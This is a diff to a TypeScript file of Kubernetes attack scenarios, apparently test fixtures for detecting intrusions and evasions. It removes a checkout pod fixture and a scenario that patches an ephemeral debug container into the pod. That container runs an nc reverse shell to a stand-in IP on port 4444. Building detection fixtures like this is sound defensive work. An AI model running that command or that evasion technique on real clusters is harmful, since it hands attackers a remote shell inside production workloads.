@@ -10,7 +10,7 @@ import {
   pod,
   shell,
 } from './manifests.js';
-import { applyClientSide, create, patch } from './steps.js';
+import { applyClientSide, create } from './steps.js';
 
 /** A token from the shop frontend pod, whose role does not allow creating CronJobs. */
 const deniedFrontendToken: Actor = serviceAccountToken({
@@ -34,38 +34,6 @@ const impersonatingDeveloper: Actor = {
   },
   authorizationReason:
     'RBAC: allowed by ClusterRoleBinding "kube-system-default-admin" of ClusterRole "cluster-admin" to ServiceAccount "default/kube-system"',
-};
-
-/** A checkout pod as the cluster stores it: created by its ReplicaSet, running. */
-const checkoutPod = {
-  apiVersion: 'v1',
-  kind: 'Pod',
-  metadata: {
-    name: 'checkout-api-7c9f5d8b4-q7xkz',
-    generateName: 'checkout-api-7c9f5d8b4-',
-    namespace: 'checkout',
-    labels: { app: 'checkout-api', 'pod-template-hash': '7c9f5d8b4' },
-    ownerReferences: [
-      {
-        apiVersion: 'apps/v1',
-        kind: 'ReplicaSet',
-        name: 'checkout-api-7c9f5d8b4',
-        uid: '3f1d2c4b-8a7e-4b6d-9c5f-1e2a3b4c5d6e',
-        controller: true,
-        blockOwnerDeletion: true,
-      },
-    ],
-  },
-  spec: {
-    containers: [
-      container('checkout-api', 'registry.acme-corp.io/shop/checkout-api:2.14.3', {
-        ports: [{ containerPort: 8080, name: 'http' }],
-        resources: { requests: { cpu: '200m', memory: '256Mi' }, limits: { memory: '512Mi' } },
-      }),
-    ],
-    serviceAccountName: 'checkout-api',
-    nodeName: 'ip-10-0-45-88.eu-west-1.compute.internal',
-  },
 };
 
 const base = {
@@ -197,40 +165,6 @@ export const ACCESS_SCENARIOS: Scenario[] = [
           restartPolicy: 'OnFailure',
         }),
         { responseCode: 403 },
-      ),
-    ],
-  },
-  {
-    ...base,
-    technique: 'T1609',
-    id: 'ephemeral-container-reverse-shell',
-    title: 'kubectl debug adds an ephemeral container with an nc reverse shell',
-    description:
-      'kubectl debug patches pods/ephemeralcontainers (strategic merge, no field manager) to add a busybox container targeting the app container.',
-    evasionClass: 'ephemeral container (pods/ephemeralcontainers patch)',
-    steps: [
-      patch(
-        compromisedDeveloper,
-        checkoutPod,
-        'strategic',
-        {
-          spec: {
-            ephemeralContainers: [
-              {
-                command: ['sh', '-c', 'nc 203.0.113.47 4444 -e sh'],
-                image: 'busybox:1.36',
-                imagePullPolicy: 'IfNotPresent',
-                name: 'debugger-7xq2m',
-                resources: {},
-                stdin: true,
-                targetContainerName: 'checkout-api',
-                terminationMessagePolicy: 'File',
-                tty: true,
-              },
-            ],
-          },
-        },
-        { subresource: 'ephemeralcontainers', fieldManager: null },
       ),
     ],
   },
